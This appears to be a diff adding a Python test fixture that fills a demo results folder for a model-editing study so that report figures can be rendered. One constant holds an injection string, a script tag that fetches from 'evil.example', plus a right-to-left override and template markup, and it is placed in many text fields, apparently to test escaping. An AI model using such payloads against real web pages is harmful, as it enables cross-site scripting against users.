@@ -1,0 +1,137 @@
+"""The demo study with a row for every figure that a report can have, written by the real writer."""
+
+from __future__ import annotations
+
+import math
+from pathlib import Path
+
+from storage.demo_rows import unpack
+from storage.queries import ask
+from tests.storage.conftest import Folder, make_row
+
+ATTACK = "<script>fetch('http://evil.example')</script> </script>\u202e {{x}} datum.y"
+"""A text that is code to something that draws figures."""
+KINDS = ("bare", "prefixed", "solved", "one_prefix", "first_token")
+N_LAYERS = 2
+
+
+def write_whole_study(results: Path) -> str:
+    """Make a results folder of the demo study and more; return the study's id."""
+    unpack(results)
+    folder = Folder(results)
+    study_id = ask(results, "select study_id from studies").item()
+    models = ask(results, "select model_id from study_models order by name")["model_id"].to_list()
+    edits = ask(results, "select edit_id, model_id, method, request_id, denominator from edits")
+    folder.add(
+        "forecasts",
+        *(
+            make_row(
+                "forecasts",
+                edit_id=f"{row['edit_id']}{layer or ''}",
+                **{name: row[name] for name in ("model_id", "method", "request_id")},
+                layer=layer,
+                text_change_bound=1 / abs(row["denominator"]),
+            )
+            for row in edits.iter_rows(named=True)
+            for layer in range(N_LAYERS)
+        ),
+    )
+    worst = ask(results, "select edit_id from edit_outcomes order by perplexity_ratio desc limit 1")
+    folder.add(
+        "continuations",
+        make_row(
+            "continuations",
+            edit_id=worst.item(),
+            n_new_tokens=20,
+            prompt=ATTACK,
+            text_before=f"before {ATTACK}",
+            text_after=f"after {ATTACK}\nsecond line",
+        ),
+    )
+    folder.add("models", make_row("models", model_id=models[0], source="openai-community/gpt2-xl"))
+    _add_imported(folder)
+    _add_anatomy(folder, study_id, models[1])
+    _add_profiles(folder, models[1])
+    folder.publish()
+    return str(study_id)
+
+
+def _add_imported(folder: Folder) -> None:
+    folder.add(
+        "imported_runs",
+        make_row("imported_runs", import_id="i", source=ATTACK, format="memit", n_edits=1),
+    )
+    folder.add(
+        "imported_edits",
+        make_row("imported_edits", import_id="i", phase="post", efficacy_score=0.25),
+    )
+
+
+def _add_anatomy(folder: Folder, study_id: str, model_id: str) -> None:
+    folder.add(
+        "anatomies",
+        make_row("anatomies", anatomy_id="a", study_id=study_id, model_id=model_id, n_requests=30),
+    )
+    folder.add(
+        "key_points",
+        *(
+            make_row(
+                "key_points",
+                anatomy_id="a",
+                request_id=f"r{index}",
+                kind=kind,
+                is_first_token=index % 2 == 0,
+                is_collapsed=[True, False, None][index % 3],
+                pca_x=math.sin(index) + place,
+                pca_y=math.cos(index),
+                tsne_x=math.sin(2 * index),
+                tsne_y=math.cos(2 * index) + place,
+            )
+            for index in range(30)
+            for place, kind in enumerate(KINDS)
+        ),
+    )
+    folder.add(
+        "anatomy_findings",
+        *(
+            make_row(
+                "anatomy_findings",
+                anatomy_id="a",
+                grouping=grouping,
+                observation=observation,
+                value=value,
+                low=value - 0.5,
+                high=value + 0.5,
+                statement=ATTACK,
+            )
+            for grouping in ("first_token", "collapsed")
+            for observation, value in (("cosine", 0.2), (ATTACK, 40.0))
+        ),
+    )
+
+
+def _add_profiles(folder: Folder, model_id: str) -> None:
+    folder.add(
+        "position_profiles",
+        *(
+            make_row(
+                "position_profiles",
+                model_id=model,
+                text_set_digest="t",
+                stack=stack,
+                layer=layer,
+                position=position,
+                model_source=ATTACK,
+                residual_norm=100.0 if position == 0 else 3.0,
+                residual_norm_low=-1.0 if position == 0 else 2.0,
+                residual_norm_high=101.0 if position == 0 else 4.0,
+                attention=None if position == 7 else 1 / (1 + position),
+                attention_low=None if position == 7 else 0.0,
+                attention_high=None if position == 7 else 1.0,
+                uniform_attention=None if position == 7 else 0.1,
+            )
+            for model, stack in ((model_id, "decoder"), ("encoder", "encoder"))
+            for layer in range(8)
+            for position in range(8)
+        ),
+    )
